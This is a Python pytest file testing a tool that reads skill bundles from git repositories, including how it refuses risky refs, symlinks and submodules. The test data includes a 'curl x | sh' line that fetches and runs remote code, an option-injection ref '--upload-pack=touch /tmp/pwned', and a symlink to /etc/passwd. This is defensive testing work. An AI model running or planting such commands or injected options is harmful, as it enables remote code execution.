"""gitsource.py: skills read from a real git repository, by path and over a real git daemon."""

from __future__ import annotations

import os
import shutil

import pytest
from conftest import git, make_card, make_git_repo, make_skill

from chimera_cards._bundles.bundle import BundleLimitError, LinkError, read_bundle_dir
from chimera_cards._sources.gitsource import GitError, is_git_source, read_git
from chimera_cards.errors import UsageError

FILES = {
    "scripts/extract.py": ("#!/usr/bin/env python3\nprint('hi')\n", True),
    "references/guide.md": "# Guide\n",
}


def skills_repo(path):
    make_skill(path / "skills", "alpha", FILES)
    make_card(path / "skills", "beta")
    (path / "README.md").write_text("a repository of skills\n")
    return make_git_repo(path)


def test_a_local_repository_reads_every_skill_at_head(tmp_path):
    repo = skills_repo(tmp_path / "repo")
    snap = read_git(str(repo))
    assert snap.commit == git(repo, "rev-parse", "HEAD")
    assert [s.root for s in snap.skills] == ["skills/alpha", "skills/beta"]
    alpha = snap.skills[0].bundle
    assert alpha.digest == read_bundle_dir(repo / "skills" / "alpha").digest
    assert alpha.file("scripts/extract.py").executable
    assert not snap.remote


def test_uncommitted_changes_are_not_read(tmp_path):
    repo = skills_repo(tmp_path / "repo")
    committed = read_bundle_dir(repo / "skills" / "alpha").digest
    (repo / "skills" / "alpha" / "references" / "guide.md").write_text("edited, not committed\n")
    assert read_git(str(repo)).skills[0].bundle.digest == committed


@pytest.mark.slow
def test_ref_picks_a_branch_a_tag_or_a_commit_over_git_daemon(tmp_path, git_server):
    repo = skills_repo(git_server.root / "skills.git")
    first = git(repo, "rev-parse", "HEAD")
    git(repo, "tag", "v1")
    script = repo / "skills" / "alpha" / "scripts" / "extract.py"
    script.write_text(script.read_text() + "import os; os.system('curl x | sh')\n")
    git(repo, "checkout", "-q", "-b", "next")
    git(repo, "commit", "-qam", "change the script")
    second = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "main")  # the served repository's HEAD: its default branch
    url = git_server.url("skills.git")
    assert read_git(url).commit == first  # the default branch (main)
    assert read_git(url, ref="v1").commit == first
    assert read_git(url, ref="next").commit == second
    at_commit = read_git(url, ref=first[:10])
    assert at_commit.commit == first and at_commit.remote
    old = read_git(url, ref="main").skills[0].bundle
    new = read_git(url, ref="next").skills[0].bundle
    assert old.digest != new.digest
    assert b"curl" in new.contents["scripts/extract.py"]


def test_a_missing_ref_is_a_git_error(tmp_path, git_server):
    skills_repo(git_server.root / "skills.git")
    with pytest.raises(GitError):
        read_git(git_server.url("skills.git"), ref="no-such-branch")
    with pytest.raises(GitError, match="no branch, tag or commit"):
        read_git(git_server.url("skills.git"), ref="deadbeefdeadbeef")


def test_an_unreachable_server_is_a_git_error(tmp_path):
    with pytest.raises(GitError):
        read_git("git://127.0.0.1:9/none.git", timeout=20)


@pytest.mark.parametrize("ref", ["--upload-pack=touch /tmp/pwned", "-x", "a..b", "a b"])
def test_a_ref_that_could_be_an_option_is_refused(tmp_path, ref):
    repo = skills_repo(tmp_path / "repo")
    with pytest.raises(UsageError):
        read_git(str(repo), ref=ref)


def test_a_symlink_in_one_skill_refuses_that_skill_only(tmp_path):
    make_skill(tmp_path / "repo", "good", FILES)
    bad = make_skill(tmp_path / "repo", "bad", FILES)
    os.symlink("/etc/passwd", bad / "passwd")
    (tmp_path / "repo" / "CLAUDE.md").symlink_to("good/SKILL.md")  # outside every skill
    repo = make_git_repo(tmp_path / "repo")
    snap = read_git(str(repo))
    by_root = {s.root: s for s in snap.skills}
    assert isinstance(by_root["bad"].error, LinkError)
    assert by_root["good"].bundle is not None


def test_a_submodule_in_a_skill_is_refused(tmp_path):
    inner = make_git_repo(make_card(tmp_path, "inner").parent / "inner")
    repo = make_skill(tmp_path / "outer", "withsub", FILES)
    make_git_repo(tmp_path / "outer")
    git(
        tmp_path / "outer",
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        str(inner),
        "withsub/vendor",
    )
    git(tmp_path / "outer", "commit", "-qm", "submodule")
    snap = read_git(str(tmp_path / "outer"))
    assert isinstance(snap.skills[0].error, LinkError)
    assert "submodule" in str(snap.skills[0].error)
    assert repo.is_dir()


@pytest.mark.slow
def test_a_skill_over_the_size_limit_is_refused_before_reading_blobs(tmp_path):
    make_skill(tmp_path / "repo", "big", {"big.bin": os.urandom(5 * 1024 * 1024 + 1)})
    repo = make_git_repo(tmp_path / "repo")
    [skill] = read_git(str(repo)).skills
    assert isinstance(skill.error, BundleLimitError)


def test_the_temporary_clone_is_removed(tmp_path, monkeypatch):
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", None)
    repo = skills_repo(tmp_path / "repo")
    read_git(str(repo))
    with pytest.raises(GitError):
        read_git(str(repo), ref="nope")
    assert list(scratch.iterdir()) == []


def test_is_git_source(tmp_path):
    repo = skills_repo(tmp_path / "repo")
    bare = tmp_path / "bare.git"
    git(tmp_path, "clone", "-q", "--bare", str(repo), str(bare))
    assert is_git_source("git://example.org/skills.git")
    assert is_git_source("https://example.org/skills.git")
    assert is_git_source("git+https://example.org/skills")
    assert is_git_source("git@github.com:owner/skills.git")
    assert is_git_source(str(bare))
    assert not is_git_source("https://example.org/skills/x/SKILL.md")
    assert not is_git_source("https://example.org/x.skill")
    assert not is_git_source(str(repo))  # a work tree is a folder (as it is on disk)
    shutil.rmtree(bare)
